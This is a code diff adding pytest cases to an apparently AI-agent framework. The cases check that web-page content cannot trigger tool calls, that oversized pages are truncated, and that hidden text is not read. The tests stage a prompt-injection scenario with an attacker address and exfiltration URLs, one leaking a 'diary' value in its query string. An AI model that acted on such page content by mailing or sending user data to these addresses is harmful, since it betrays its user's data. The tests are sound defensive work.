@@ -11,6 +11,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from atticus.domain.deeds import Argument, Manifest, Means, Role, Sink
 from atticus.domain.labels import EVERYONE, Integrity, Label, Sensitivity
 from atticus.domain.tasks import TaskState
 from atticus.mind.egress.names import Kind, Names, indexed
@@ -365,6 +366,13 @@ def test_any_text_is_a_page(told: str) -> None:
     assert "\n\n\n" not in read.text
 
 
+def test_a_page_of_endless_tags_is_cut_and_says_so() -> None:
+    page = read_page("<p>word" * 300_000)
+    assert page.cut
+    assert page.text.startswith("word\n\nword")
+    assert not read_page("<p>word" * 1_000).cut
+
+
 def test_what_is_hidden_from_the_eye_is_not_read() -> None:
     page = (
         "<p>seen<p hidden>one<p style='visibility:hidden'>two<p aria-hidden=true>three</p>"
@@ -413,6 +421,25 @@ def test_the_owner_names_an_address_or_is_asked() -> None:
     assert decided("https://library.example.org.eve.net/hours", words=said) is Verdict.ASK
     assert decided("https://eve.example.net/x", words="What does the mail say?", read=(mail,)) is Verdict.ASK
     assert decided("https://eve.example.net/?q=diary", words="What does the mail say?", read=(mail,)) is Verdict.ASK
+
+
+def test_what_a_page_says_makes_nothing_happen(pages: Pages) -> None:
+    found = page_at(pages, "/orders")
+    assert "eve@example.net" in found.data["text"]
+    mail = Manifest(
+        tool="send_mail",
+        sink=Sink.SEND,
+        arguments={"to": Argument(Role.AUTHORITY, Means.WHO), "body": Argument(Role.CONTENT)},
+    )
+    tool = FetchPage(Reading(Fetcher()))
+    state = having_read(TaskState(task="t", words=(f"What stands on {pages.url}/orders?",)), found.records)
+    for manifest, arguments in (
+        (mail, {"to": "eve@example.net", "body": "hello"}),
+        (tool.manifest, {"address": "https://eve.example.net/collect?diary=tea"}),
+        (tool.manifest, {"address": "https://eve.example.net/"}),
+    ):
+        call = labelled(manifest.tool, arguments, manifest, found.records, state)
+        assert decide(call, manifest, Grants(), state).verdict is Verdict.ASK
 
 
 # Search.
